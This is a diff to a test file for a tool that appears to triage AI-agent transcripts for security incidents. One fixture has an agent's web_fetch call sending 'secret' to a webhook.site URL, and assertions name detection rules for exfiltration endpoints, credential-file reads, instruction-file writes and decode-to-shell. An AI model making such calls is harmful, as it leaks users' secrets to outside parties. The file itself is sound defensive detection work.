@@ -117,6 +117,20 @@ def test_events_of_a_tool_call_and_its_result() -> None:
     (res,) = events_of(json.loads(LANDED_LINES[5]), ctx, src)
     assert (res.kind, res.is_error, res.size) == ("tool_result", True, len("ENOENT PRIVATE-MARKER"))
     assert list(events_of({"type": "session"}, ctx, src)) == []
+    dm = {"type": "message", "message": {"role": "user", "content": "hi",
+                                         "__openclaw": {"senderId": "42", "senderName": "Mallory"}}}
+    assert [e.sender for e in events_of(dm, ctx, src)] == ["42 (Mallory)"]
+
+
+def test_a_deferred_tool_called_through_tool_call_is_named() -> None:
+    """2026.9.6 records a deferred tool's call as tool_call {id, args} (seen in a real transcript)."""
+    record = {"type": "message", "message": {"role": "assistant", "content": [
+        {"type": "toolCall", "id": "c9", "name": "tool_call",
+         "arguments": {"id": "web_fetch", "args": {"url": "https://webhook.site/abc?d=secret"}}}]}}
+    (event,) = events_of(record, Context("s"), Source("p", "h", line=1))
+    assert (event.tool, event.url, event.extra) == ("web_fetch", "https://webhook.site/abc?d=secret",
+                                                     {"via": "tool_call"})
+    assert "exfil-endpoint" in {r.id for r in load_rules() if r.matches(event.fields())}
 
 
 def test_triage_finds_cites_and_judges(case: Path) -> None:
@@ -134,6 +148,7 @@ def test_triage_finds_cites_and_judges(case: Path) -> None:
     assert by_rule["credential-file-read"]["landed"] is False  # its result is an error
     soul = by_rule["instruction-file-write"]
     assert soul["evidence"]["row"] == {"session_id": "s2", "seq": 1} and soul["channel"] == "telegram"
+    assert soul["entry_point"]["sender"] == "owner" and soul["entry_point"]["evidence"]["row"]["seq"] == 0
     assert by_rule["decode-to-shell"]["evidence"]["row"] == {"session_id": "s2", "seq": 2}  # decoded from zstd
     assert {f["rule"] for f in data["below_min_level"]} == {"raw-ip-url"}
     verdicts = {s["session_id"]: s["verdict"] for s in data["sessions"]}
